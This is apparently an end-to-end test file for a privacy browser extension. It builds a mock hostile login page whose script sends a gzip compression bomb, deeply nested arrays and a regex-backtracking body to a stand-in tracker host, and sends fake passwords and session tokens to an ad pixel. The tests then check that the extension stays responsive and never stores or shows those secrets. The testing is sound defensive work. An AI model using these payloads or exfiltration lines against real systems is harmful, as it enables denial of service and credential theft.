// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the test page's script is written as a string on purpose.
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { tabIdOf } from '../../scripts/browser.ts';
import { everythingStored, storedEvents } from './extension-db.ts';
import { useExtensionBrowser } from './setup.ts';

/** What the page's login form holds: none of it may be stored, shown or cited. */
const SECRETS = {
  password: 'Sw0rdfish-e2e-4711-pass',
  session: 'sess9f8e7d6c5b4a39281706',
  token: 'tok7c6b5a4938271605f4e3d2',
  user: 'jane.e2e.login.user',
};
/** Magnite's id in its ordinary pixel: what a letter may cite. */
const TRACKING_ID = 'rp4711e2e9c8b7a6';
const HOSTILE = 'collect.hostile-tracker.example';
/** 64 MB of zeros in 64 KB of gzip: a compression bomb. */
const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024)).toString('base64');

const script =
  `const S = ${JSON.stringify(SECRETS)};` +
  // A body that made the old decoder backtrack exponentially, sent with no server needed.
  `navigator.sendBeacon("https://${HOSTILE}/backtrack", "a=" + "&a=".repeat(40) + " x");` +
  // Arrays nested 6,000 deep, in a query value and in a JSON body.
  'const nested = "[".repeat(6000) + "]".repeat(6000);' +
  `fetch("https://${HOSTILE}/nested?z=" + nested, {mode: "no-cors"});` +
  `fetch("https://${HOSTILE}/nested-json", {method: "POST", mode: "no-cors", body: '{"z":' + nested + '}'});` +
  // The compression bomb, as a gzip body.
  `const bomb = Uint8Array.from(atob("${BOMB}"), (c) => c.charCodeAt(0));` +
  `fetch("https://${HOSTILE}/bomb", {method: "POST", mode: "no-cors", body: bomb});` +
  // A login form posted to a third party (into a hidden frame), and a login sent in an address.
  'const form = document.getElementById("login");' +
  'form.username.value = S.user; form.password.value = S.password; form.session_id.value = S.session; form.submit();' +
  'new Image().src = `https://pixel.rubiconproject.com/auth?password=${S.password}&session_id=${S.session}&email=${S.user}`;' +
  'new Image().src = `https://pixel.rubiconproject.com/pixel.gif?access_token=${S.token}&uid=' +
  TRACKING_ID +
  '`;' +
  // Then, when the test says, an ordinary tracker request.
  'window.go = () => { new Image().src = "https://www.google-analytics.com/collect?v=1&cid=555.777&t=pageview"; };' +
  'document.title = "sent";';

const page =
  '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title><link rel="icon" href="data:,">' +
  '</head><body><h1>Sign in</h1><iframe name="sink" title="sink"></iframe>' +
  '<form id="login" method="post" action="https://pixel.rubiconproject.com/login" target="sink">' +
  '<input name="username"><input type="password" name="password"><input type="hidden" name="session_id">' +
  `</form><script>${script}</script></body></html>`;

const env = useExtensionBrowser({ 'www.hostile-page.example': { '/login.html': page } });
const URL = 'https://www.hostile-page.example/login.html';

/** Polls `check` until it holds or `ms` have passed; true if it held. */
async function within(ms: number, check: () => Promise<boolean>): Promise<boolean> {
  const deadline = Date.now() + ms;
  for (;;) {
    if (await check()) return true;
    if (Date.now() > deadline) return false;
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe('a hostile page', () => {
  it('cannot stall the worker, hide its requests or get a secret stored, shown or cited', async () => {
    const { context, extensionId } = env.browser;
    const tab = await context.newPage();
    await tab.goto(URL, { waitUntil: 'load' });
    await tab.waitForFunction(() => document.title === 'sent');
    const tabId = await tabIdOf(context, extensionId, URL);

    // While it decodes what the page sent, the worker answers a status message within a second.
    const popup = await context.newPage();
    await popup.goto(`chrome-extension://${extensionId}/popup.html?tabId=${tabId}`);
    const statusMs = await popup.evaluate(async () => {
      const { chrome } = globalThis as unknown as { chrome: { runtime: { sendMessage(m: object): Promise<unknown> } } };
      const t0 = performance.now();
      await chrome.runtime.sendMessage({ type: 'background/status', payload: {} });
      return performance.now() - t0;
    });
    expect(statusMs).toBeLessThan(1000);

    // Then an ordinary tracker request: the popup names its company within a second of the server getting it.
    await tab.evaluate(() => (window as unknown as { go(): void }).go());
    expect(await within(5000, async () => env.internet.requestsTo(['www.google-analytics.com']).length > 0)).toBe(true);
    const reached = env.internet.requestsTo(['www.google-analytics.com'])[0]?.time ?? 0;
    const named = await within(1000 - (Date.now() - reached), async () => {
      await popup.reload();
      await popup.waitForSelector('main[aria-busy="false"]');
      return (await popup.locator('[data-testid="recipient"][data-company="google"]').count()) > 0;
    });
    expect(named, 'Google named in the popup within 1 s').toBe(true);
    expect(Date.now() - reached).toBeLessThan(1500);
    // The popup says a secret went to Magnite, and shows none.
    const received = await popup.locator('[data-company="magnite"] [data-testid="received"]').textContent();
    expect(received).toContain('a password, login token or other secret');
    const shown = (await popup.locator('main').textContent()) ?? '';
    for (const [what, value] of Object.entries(SECRETS)) expect(shown.includes(value), what).toBe(false);

    // The secrets did reach the third party (the test is not vacuous)…
    const magnite = env.internet.requestsTo(['pixel.rubiconproject.com']);
    expect(magnite.some((r) => r.method === 'POST' && r.body.toString().includes(SECRETS.password))).toBe(true);
    expect(magnite.some((r) => r.path.includes(SECRETS.session))).toBe(true);
    // …and every hostile request was recorded all the same.
    const events = await storedEvents(context, extensionId);
    const paths = events.filter((e) => e.host === HOSTILE).map((e) => e.path);
    for (const path of ['/backtrack', '/nested', '/nested-json', '/bomb']) expect(paths, path).toContain(path);
    expect(events.filter((e) => e.host === 'pixel.rubiconproject.com').map((e) => e.path)).toEqual(
      expect.arrayContaining(['/login', '/auth', '/pixel.gif']),
    );

    // No secret value anywhere in the extension's IndexedDB; that secrets were sent is.
    const stored = await everythingStored(context, extensionId);
    for (const [what, value] of Object.entries(SECRETS)) expect(stored.includes(value), what).toBe(false);
    expect(stored).toContain('"secret"');
    expect(stored).toContain(TRACKING_ID);

    // The letter composer for Magnite offers its tracking id, and none of the secrets.
    const composer = await context.newPage();
    await composer.goto(`chrome-extension://${extensionId}/options.html#/letter/magnite`);
    await composer.waitForSelector('[data-testid="letter-body"]');
    const offered = (await composer.locator('[data-testid="letter-identifiers"] li').allTextContents()).join('\n');
    const letter = await composer.inputValue('[data-testid="letter-body"]');
    expect(offered).toContain(TRACKING_ID);
    expect(letter).toContain(TRACKING_ID);
    for (const [what, value] of Object.entries(SECRETS)) {
      expect(offered.includes(value), what).toBe(false);
      expect(letter.includes(value), what).toBe(false);
    }
    await composer.close();
    await popup.close();
    await tab.close();
  });
});
